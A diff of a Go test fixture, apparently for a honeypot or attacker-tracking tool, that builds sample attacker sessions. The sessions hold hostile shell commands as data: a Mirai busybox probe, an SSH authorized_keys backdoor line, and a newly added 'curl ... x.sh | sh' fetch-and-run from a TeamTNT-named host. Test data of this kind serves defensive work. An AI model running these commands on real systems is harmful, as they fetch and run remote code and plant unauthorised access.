@@ -306,7 +306,7 @@ func everyDocument(t *testing.T) map[Kind][]map[string]any {
 			decode(t, r.AppendAttacker(nil, headOf(someone), folded(r, beaconEvents()))),
 			decode(t, r.AppendAttacker(nil, headOf(someone), folded(r, flood))),
 			decode(t, r.AppendAttacker(nil, headOf(someone), folded(r, typing("s1", []float64{0, 4, 9, 2, 14, 21},
-				"sl -la", "ls -la", "/bin/busybox MIRAI", "echo mdrfckr >> ~/.ssh/authorized_keys", "w", "exit")))),
+				"sl -la", "ls -la", "/bin/busybox MIRAI", "echo mdrfckr >> ~/.ssh/authorized_keys", "curl http://teamtnt.red/x.sh | sh", "exit")))),
 		},
 		Targets: {
 			decode(t, r.AppendTarget(nil, headOf(someone), "mail.acme.co.uk", target)),
